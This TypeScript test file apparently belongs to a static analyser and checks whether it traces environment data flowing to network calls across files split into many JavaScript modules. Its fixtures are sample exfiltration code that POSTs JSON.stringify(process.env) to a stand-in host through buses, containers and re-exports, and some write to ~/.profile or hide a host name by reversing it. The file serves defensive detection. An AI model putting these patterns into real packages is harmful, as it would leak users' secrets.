import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';
const READ = 'JSON.stringify(process.env)';
const SEND = (what: string): string => `fetch('https://a.invalid', { method: 'POST', body: ${what} })`;

type Files = Readonly<Record<string, string>>;

const READER = `module.exports = class { read() { return ${READ}; } };`;
const SENDER = `module.exports = class { send(x) { ${SEND('x')}; } };`;
const FILLS = `module.exports = c => { c.data = ${READ}; };`;
const EMPTIES = `module.exports = c => { ${SEND('c.data')}; };`;

/** Two files of which one keeps to itself what it reads, and the other sends what it says. */
function apart(keeps: string, sends: string): Files {
  return { 'index.js': `require('./a'); require('./b');`, 'a.js': keeps, 'b.js': sends };
}

/** Ways by which files have names alike, and nothing to do with each other. */
const ALIKE: Readonly<Record<string, Files>> = {
  'fields of two classes': {
    'index.js': `const A = require('./a'), B = require('./b'); new A().show(); new B({ a: 1 }).send();`,
    'a.js': `module.exports = class { constructor() { this.data = ${READ}; this.all = []; this.all.push(this.data); } show() { console.log(this.all); } };`,
    'b.js': `module.exports = class { constructor(x) { this.data = x; this.all = []; } send() { this.all.push(this.data); ${SEND('this.all')}; } };`,
  },
  'fields of a class and of one that Node has': {
    'index.js': `const A = require('./a'), B = require('./b'); new A().show(); new B({ a: 1 }).send();`,
    'a.js': `module.exports = class extends require('events') { show() { this.data = ${READ}; console.log(this.data); } };`,
    'b.js': `const { EventEmitter } = require('events'); module.exports = class extends EventEmitter { constructor(x) { super(); this.data = x; } send() { ${SEND('this.data')}; } };`,
  },
  'emitters that each makes': apart(
    `const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('data', console.log); e.emit('data', ${READ});`,
    `const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('data', x => { ${SEND('x')}; }); e.emit('data', 1);`,
  ),
  'emitters that each is': apart(
    `new (class A extends require('events') { go() { this.on('end', console.log); this.emit('end', ${READ}); } })().go();`,
    `new (class B extends require('events') { go() { this.on('end', x => { ${SEND('x')}; }); this.emit('end', 1); } })().go();`,
  ),
  'collections that each makes': apart(
    `const all = new Map(); all.set('data', { x: ${READ} }); console.log(all.get('data'));`,
    `const form = new FormData(); ${SEND("form.get('data').x")};`,
  ),
  'a getter and a field': apart(
    `class A { get data() { return ${READ}; } show() { console.log(this.data); } } new A().show();`,
    `class B { send() { ${SEND('this.data')}; } } B.prototype.data = 1; new B().send();`,
  ),
  'a method and one of a class that Node has': {
    'index.js': `const A = require('./a'), B = require('./b'); new A().show(); new B().emit(1);`,
    'a.js': `module.exports = class extends require('events') { show() { this.emit(${READ}); } };`,
    'b.js': `module.exports = class { emit(x) { ${SEND('x')}; } };`,
  },
};

/** Ways by which files work together of which none alone tells what is done. */
const TOGETHER: Readonly<Record<string, Files>> = {
  'files asked for in pieces, by their place and by another name': {
    'index.js': `const ask = require, path = require('path'); const Reader = require('./re' + 'ader'), hand = require(path.join(__dirname, 'hand')); hand(new Reader(), ask('./sender'));`,
    'reader.js': READER,
    'hand.js': `module.exports = (from, To) => new To().send(from.read());`,
    'sender.js': SENDER,
  },
  'objects of two files that a class of a third is made with': {
    'index.js': `const A = require('./a'), B = require('./b'), App = require('./app'); new App(new A(), new B()).run();`,
    'a.js': READER,
    'b.js': SENDER,
    'app.js': `module.exports = class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } };`,
  },
  'functions that are handed over in an object': {
    'index.js': `require('./run')({ read: require('./a'), send: require('./b') });`,
    'a.js': `module.exports = () => ${READ};`,
    'b.js': `module.exports = x => { ${SEND('x')}; };`,
    'run.js': `module.exports = ({ read, send }) => send(read());`,
  },
  'steps of two files that a class of a third goes through': {
    'index.js': `const P = require('./p'); new P().use(require('./a')).use(require('./b')).run();`,
    'p.js': `module.exports = class { constructor() { this.steps = []; } use(f) { this.steps.push(f); return this; } run() { const c = {}; this.steps.forEach(f => f(c)); } };`,
    'a.js': FILLS,
    'b.js': EMPTIES,
  },
  'steps that wait for each other': {
    'index.js': `require('./p').run([require('./a'), require('./b')]);`,
    'p.js': `exports.run = async steps => { let v; for (const step of steps) v = await step(v); };`,
    'a.js': `module.exports = async () => ${READ};`,
    'b.js': `module.exports = async x => { ${SEND('x')}; };`,
  },
  'a bus that one file keeps': {
    'index.js': `require('./a'); require('./b');`,
    'bus.js': `const all = []; exports.sub = f => all.push(f); exports.pub = x => all.forEach(f => f(x));`,
    'a.js': `require('./bus').sub(d => ${SEND('d')});`,
    'b.js': `require('./bus').pub(${READ});`,
  },
  'a container of one file that makes what another offers': {
    'index.js': `const c = require('./container'); c.put('a', () => require('./a')); c.put('b', () => require('./b')); c.get('b').send(c.get('a').read());`,
    'container.js': `const makers = {}; exports.put = (k, f) => { makers[k] = f; }; exports.get = k => makers[k]();`,
    'a.js': `exports.read = () => ${READ};`,
    'b.js': `exports.send = x => { ${SEND('x')}; };`,
  },
  'a table of one file that names another': {
    'index.js': `require('./s').pick('http').send(${READ});`,
    's.js': `const table = { http: require('./b'), none: { send() {} } }; exports.pick = name => table[name] || table.none;`,
    'b.js': `exports.send = x => { ${SEND('x')}; };`,
  },
  'files of ESM that hand on each other’s names': {
    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', type: 'module', main: 'index.js' }),
    'index.js': `import { App } from './lib.js'; import Source, { sink as out } from './parts.js'; new App(new Source(), out).run();`,
    'lib.js': `export * from './app.js';`,
    'app.js': `export class App { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } }`,
    'parts.js': `export default class Source { read() { return ${READ}; } }\nexport const sink = { send(x) { ${SEND('x')}; } };`,
  },
  'files of ESM that all wait for something': {
    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', type: 'module', main: 'index.js' }),
    'index.js': `import { App } from './app.js'; import { Source } from './source.js'; await new App(new Source()).run();`,
    'app.js': `export class App { constructor(a) { this.a = a; } async run() { const x = await this.a.read(); ${SEND('x')}; } }`,
    'source.js': `export class Source { async read() { await 0; return ${READ}; } }`,
  },
  'files of ESM that begin with a comment': {
    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', type: 'module', main: 'index.js' }),
    'index.js': `/*! x */ import { App } from './app.js'; import { Source } from './source.js'; new App(new Source()).run();`,
    'app.js': `/*! x */ export class App { constructor(a) { this.a = a; } run() { const x = this.a.read(); ${SEND('x')}; } }`,
    'source.js': `/*! x */ export class Source { read() { return ${READ}; } }`,
  },
  'files of ESM whose default has no name, and brackets behind it': {
    'index.js': `import read from './read.js'; import Sink from './sink.js'; import App from './app.js'; new App(read, new Sink()).run();`,
    'app.js': `export default class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a()); } }\n[1].forEach(x => x);`,
    'read.js': `export default function () { return ${READ}; }\n(() => {})();`,
    'sink.js': `export default class { send(x) { ${SEND('x')}; } }\n(1, 2);`,
  },
  'a class of one file that extends that of another': {
    'index.js': `const B = require('./b'); new B().send();`,
    'a.js': `module.exports = class { constructor() { this.data = ${READ}; } }; fetch('https://b.invalid');`,
    'b.js': `module.exports = class extends require('./a') { send() { this.data = this.data || 1; ${SEND('this.data')}; } };`,
  },
  'functions of one file that are called on an object of a class of another': {
    'index.js': `const A = require('./a'); require('./b').send.call(new A());`,
    'a.js': `module.exports = class { constructor() { this.data = ${READ}; } };`,
    'b.js': `exports.drop = function () { this.data = null; }; exports.send = function () { ${SEND('this.data')}; };`,
  },
  'a folder that is loaded by its own path, and a file beside it that is called alike': {
    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'lib/index.js' }),
    'lib/index.js': `require('..')(require('./'), require('./send/'));`,
    'lib/send.js': `module.exports = () => {};`,
    'lib/send/index.js': `module.exports = x => { ${SEND('x')}; };`,
    'index.js': `module.exports = (_, send) => send(${READ});`,
  },
  'classes that take the place of what a file offers at first': {
    'index.js': `const A = require('./a'), B = require('./b'), App = require('./app'); new App(new A(), new B()).run();`,
    'a.js': `var exports = module.exports = {};\n${READER}`,
    'b.js': `module.exports = {};\n${SENDER}`,
    'app.js': `module.exports = class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } };`,
  },
  'an emitter that one file makes and two use': {
    'index.js': `require('./b'); require('./a');`,
    'bus.js': `const { EventEmitter } = require('events'); module.exports = new EventEmitter();`,
    'a.js': `require('./bus').emit('data', ${READ});`,
    'b.js': `const bus = require('./bus'); bus.on('data', x => { ${SEND('x')}; });`,
  },
  'a class that gives one object of itself to all who make one': {
    'index.js': `require('./b'); require('./a');`,
    'bus.js': `let one; module.exports = class Bus extends require('events') { constructor() { super(); if (one) return one; one = this; } };`,
    'a.js': `const Bus = require('./bus'); const bus = new Bus(); bus.emit('data', ${READ});`,
    'b.js': `const Bus = require('./bus'); const bus = new Bus(); bus.on('data', x => { ${SEND('x')}; });`,
  },
  'files that are loaded later': {
    'index.js': `import('./a.mjs').then(a => import('./b.mjs').then(b => b.send(a.read())));`,
    'a.mjs': `export const read = () => ${READ};`,
    'b.mjs': `export const send = x => { ${SEND('x')}; };`,
  },
};

describe('files that are read as one', () => {
  for (const [what, files] of Object.entries(TOGETHER))
    it(`tell what is done by ${what}`, () => {
      const { effects } = behaviourOf(files);
      assert.ok(flowLines(files).includes(SENT));
      assert.ok(effects.some(one => one.kind === 'connects' && one.triggers.includes('import')));
    });

  for (const [what, files] of Object.entries(ALIKE))
    it(`do not take for each other ${what}`, () => {
      assert.ok(!flowLines(files).includes(SENT));
      assert.ok(behaviourOf(files).effects.some(one => one.kind === 'connects' && one.triggers.includes('import')));
    });

  it('tell of everything where in its own file it stands', () => {
    const files = TOGETHER['files of ESM that hand on each other’s names'] ?? {};
    const places = behaviourOf(files).effects.map(({ at }) => (files[at.path] ?? '').slice(at.start, at.end));
    assert.deepEqual([...new Set(places)].toSorted(), [SEND('x'), 'process.env'].toSorted());
  });

  it('do not read what they only import by name', () => {
    const files = {
      'index.js': `import { send } from './send.js'; send();`,
      'send.js': `import { env } from 'node:process'; import { platform } from 'node:os';\nexport const send = () => fetch('https://a.invalid');`,
    };
    assert.deepEqual(behaviourOf(files).effects.map(lineOf), ['import connects fetch(https://a.invalid)']);
  });

  it('do nothing twice that each does by itself', () => {
    const files = { 'index.js': `require('./b').send(process.env.TOKEN);`, 'b.js': `exports.send = x => { ${SEND('x')}; };` };
    assert.deepEqual(behaviourOf(files).effects.map(lineOf), [
      'import reads environment process.env.TOKEN(TOKEN)',
      'import connects fetch(https://a.invalid)',
    ]);
  });

  for (const end of ['/* never ended', 'const x = `never ended', "const x = 'never ended"])
    it(`do not end where one of them does not: ${end}`, () => {
      const files = {
        ...TOGETHER['functions that are handed over in an object'],
        'a.js': `module.exports = () => ${READ}; if (0) require('./odd');`,
        'odd.js': `fetch('https://b.invalid'); ${end}`,
      };
      assert.ok(flowLines(files).includes(SENT));
    });

  for (const odd of ['odd.json', 'odd.cjs'])
    it(`do not nest too deep where one of them nearly does: ${odd}`, () => {
      const deep = '['.repeat(1_497) + ']'.repeat(1_497);
      const files = {
        ...TOGETHER['functions that are handed over in an object'],
        'a.js': `module.exports = () => ${READ}; if (0) require('./${odd}');`,
        [odd]: odd.endsWith('json') ? deep : `fetch('https://b.invalid'); x = ${deep};`,
      };
      assert.ok(flowLines(files).includes(SENT));
    });

  it('do not nest too deep where comments leave brackets open', () => {
    const open = `fetch('https://b.invalid'); /* ${'('.repeat(800)} */`;
    const files = {
      ...TOGETHER['functions that are handed over in an object'],
      'a.js': `module.exports = () => ${READ}; if (0) require('./c') + require('./d');`,
      'c.js': open,
      'd.js': open,
    };
    assert.ok(flowLines(files).includes(SENT));
  });

  it('cost no more than they are long, however many names they hand on', () => {
    const names = Array.from({ length: 8_000 }, (_, index) => `a${index}`);
    const lines = (many: number, line: string): string => `${line}\n`.repeat(many);
    const files = {
      'index.js': `${lines(1_000, `export * from './names.js';`)}import { ${names
        .map(name => `a1 as ${name}`)
        .slice(0, 3_000)
        .join(',\n')} } from '${'./'.repeat(5_000)}names.js'; fetch('https://a.invalid');`,
      'names.js': `export let ${names.join(',\n')}; fetch('https://b.invalid');`,
    };
    assert.equal(behaviourOf(files).effects.length, 2);
  });

  it('know what stands in files of data that they load', () => {
    const files = {
      'index.js': `const said = require('./said.json'); fetch('https://' + said.host.split('').reverse().join(''));`,
      'said.json': '{"host":"dilavni.a"}',
    };
    assert.ok(behaviourOf(files).effects.map(lineOf).includes('import connects fetch(https://a.invalid)'));
  });

  it('hide nothing by meaning something else where they are read as one', () => {
    const files = {
      'index.js': `import { n } from './n.js'; import { homedir } from 'os'; import { appendFileSync } from 'fs'; let m = 1;
        const file = '/tmp/folder/of/what/is/built'; { const k = n <!--m, file = homedir() + '/.profile'
        ; appendFileSync(file, 'INERT'); }`,
      'n.js': `export const n = 0; fetch('https://a.invalid/');`,
    };
    assert.ok(behaviourOf(files).effects.map(lineOf).includes('import writes file fs.appendFileSync(<home>/.profile)'));
  });

  it('do not take a file for what lies outside of the package and is called as it is', () => {
    const files = {
      'index.js': `require('./send'); require('fs').appendFileSync(require('os').homedir() + '/.profile', 'INERT');`,
      'os.js': `exports.homedir = () => '/tmp/folder/of/what/is/built';`,
      'send.js': `fetch('https://a.invalid/' + require('./os').homedir());`,
    };
    assert.ok(behaviourOf(files).effects.map(lineOf).includes('import writes file fs.appendFileSync(<home>/.profile)'));
  });

  it('do not call what nobody hands over', () => {
    const files = {
      'index.js': `const App = require('./app'); module.exports = (a, b) => new App(a, b);`,
      'app.js': `module.exports = class { constructor(a, b) { this.a = a; this.b = b; } run() { this.b.send(this.a.read()); } };`,
      'a.js': READER,
      'b.js': SENDER,
    };
    assert.ok(!flowLines(files).includes(SENT));
  });

  it('are started as programs where they ask whether they were', () => {
    const files = {
      'index.js': `const { go } = require('./b'); if (require.main === module) go(process.env.TOKEN);`,
      'b.js': `exports.go = x => { ${SEND('x')}; };`,
    };
    assert.ok(behaviourOf(files).effects.every(one => one.kind !== 'connects' || !one.triggers.includes('import')));
  });
});
